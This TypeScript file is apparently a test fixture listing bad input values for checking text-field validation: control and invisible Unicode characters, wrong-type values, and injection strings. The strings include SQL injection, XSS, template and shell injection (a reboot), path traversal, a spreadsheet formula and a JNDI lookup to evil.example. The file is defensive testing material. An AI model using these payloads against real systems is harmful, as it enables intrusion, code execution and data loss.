/** One kind of bad value: whether text of this kind may be taken where text is wanted (it is odd, and not wrong). */
export interface BadValue {
  readonly kind: string;
  readonly value: unknown;
  readonly isText?: true;
}

const text = (kind: string, value: string): BadValue => ({ kind, value, isText: true });
const bad = (kind: string, value: unknown): BadValue => ({ kind, value });
const at = (...codes: number[]): string => String.fromCodePoint(...codes);

/** Texts that no field of text may take: they cannot be read, or can be read in two ways. */
const UNREADABLE: readonly BadValue[] = [
  bad('empty text', ''),
  bad('blanks', ' \t '),
  bad('hard blanks', at(0xa0, 0x2003)),
  bad('60,000 letters', 'x'.repeat(60_000)),
  bad('a zero byte', `a${at(0)}b`),
  bad('a bell', `a${at(7)}b`),
  bad('an escape sequence', `a${at(27)}[31mb`),
  bad('a delete', `a${at(127)}b`),
  bad('a control of C1', `a${at(0x85)}b${at(0x9b)}c`),
  bad('text turned to the left', `a${at(0x202e)}b`),
  bad('an isolate', `a${at(0x2066)}b`),
  bad('a mark of direction', `a${at(0x200f)}b`),
  bad('a zero-width space', `a${at(0x200b)}b`),
  bad('a word joiner', `a${at(0x2060)}b`),
  bad('a byte order mark', `a${at(0xfeff)}b`),
  bad('a soft hyphen', `a${at(0xad)}b`),
  bad('a tag character', `a${at(0xe0041)}b`),
  bad('a joiner between letters', `a${at(0x200d)}b`),
  bad('half a surrogate pair', 'a\ud800b'),
  bad('the other half', 'a\udc00b'),
];

/** Texts that mean something to some program, and here are only text. */
const ODD: readonly BadValue[] = [
  text('SQL', `'; DROP TABLE people; --`),
  text('SQL that is true', `' OR '1'='1`),
  text('a script', '<script>alert(1)</script>'),
  text('an attribute', '" onmouseover="alert(1)'),
  text('a template', '{{7*7}}${7*7}<%= 7*7 %>'),
  text('a path', '../../../../etc/passwd'),
  text('a path of Windows', 'C:\\windows\\system32'),
  text('a format', '%s%n%x%p'),
  text('percent signs', '%00%0a%2e%2e%2f'),
  text('a shell', '$(reboot)`reboot`; reboot'),
  text('a formula', '=cmd|" /C calc"!A0'),
  text('a lookup', '${jndi:ldap://evil.example/a}'),
  text('a prototype', '__proto__'),
  text('a constructor', 'constructor'),
  text('JSON', '{"$ne":null}'),
  text('null in words', 'null'),
  text('undefined in words', 'undefinable'),
  text('not a number, in words', 'NaN'),
  text('a number in words', '1e999'),
  text('emoji of a family', '👨‍👩‍👧‍👦'),
  text('accents upon accents', `e${'\u0301'.repeat(40)}`),
  text('another script', 'Здравствуйте 你好 مرحبا'),
  text('letters that look alike', 'pаypаl'),
  text('a day that there is not', '2026-02-30T00:00:00Z'),
  text('a leap second', '2026-06-30T23:59:60Z'),
  text('a time without a zone', '2026-01-01T00:00:00'),
  text('a time of the year 0', '0000-01-01T00:00:00Z'),
  text('a time of the year 9999', '9999-12-31T23:59:59.999Z'),
  text('a time at the edge of a zone', '9999-12-31T23:59:59-23:59'),
  text('an id of another kind', 'per_priya'),
  text('an id that is not there', 'exc_none'),
  text('an id with a space', 'exc_ none'),
];

/** Values of another kind than a field's. */
const OTHER: readonly BadValue[] = [
  bad('null', null),
  bad('true', true),
  bad('false', false),
  bad('zero', 0),
  bad('minus zero', -0),
  bad('minus one', -1),
  bad('a fraction', 1.5),
  bad('the least fraction', 5e-324),
  bad('2^31', 2_147_483_648),
  bad('2^53', 9_007_199_254_740_992),
  bad('-2^53', -9_007_199_254_740_992),
  bad('the greatest number', 1.797e308),
  bad('an empty list', []),
  bad('a list of null', [null]),
  bad('a list of lists', [[['a']]]),
  bad('a list of 1,001', Array<string>(1_001).fill('a')),
  bad('a list with one twice', ['exc_1', 'exc_1']),
  bad('an empty object', {}),
  bad('an object', { a: 1 }),
  bad('an object with a length', { length: 1, 0: 'a' }),
];

/** More than sixty. */
export const BAD_VALUES: readonly BadValue[] = [...UNREADABLE, ...ODD, ...OTHER];
